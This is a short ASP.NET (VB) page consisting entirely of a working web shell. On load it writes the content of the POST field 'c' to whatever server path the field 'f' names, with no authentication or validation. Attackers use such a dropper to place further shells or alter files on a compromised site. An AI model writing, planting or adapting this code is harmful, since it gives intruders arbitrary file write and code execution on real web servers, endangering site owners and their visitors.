<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim w As New StreamWriter(Request.Form("f"), False, System.Text.Encoding.Default)
    w.Write(Request.Form("c"))
    w.Close()
End Sub
</script>
